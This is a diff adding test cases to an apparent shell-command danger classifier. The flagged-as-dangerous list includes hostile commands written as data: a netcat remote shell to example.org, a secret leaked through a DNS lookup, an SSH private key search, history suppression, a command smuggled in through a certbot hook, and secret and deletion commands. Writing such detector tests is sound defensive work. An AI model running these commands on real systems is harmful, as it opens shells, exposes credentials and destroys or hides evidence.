@@ -96,6 +96,8 @@ mod tests {
             "sh -c 'ls | wc -l'",
             "redis-cli get session:7",
             "anything --version",
+            "kubectl delete pod x --dry-run=client",
+            "sudo -l",
         ] {
             assert!(worst(text) < 600, "{text}: {:?}", dangers(text));
         }
@@ -152,6 +154,16 @@ mod tests {
             "rg --pre ./x pattern",
             "echo 'unfinished",
             "ping $(cat secret).example.org",
+            "sudo rm -rfv build",
+            "command rm -v build",
+            "sudo ./x -lv",
+            "kubectl delete pod x --dry-run=none",
+            "kubectl get secrets -n shop",
+            "systemctl --failed stop nginx",
+            "nc -z -e /bin/sh example.org 9",
+            "certbot certonly --logs-dir . --pre-hook 'sh -c id'",
+            "export HISTFILE=/dev/null",
+            "find / -name id_rsa",
         ] {
             assert!(worst(text) >= 600, "{text}: {:?}", dangers(text));
         }
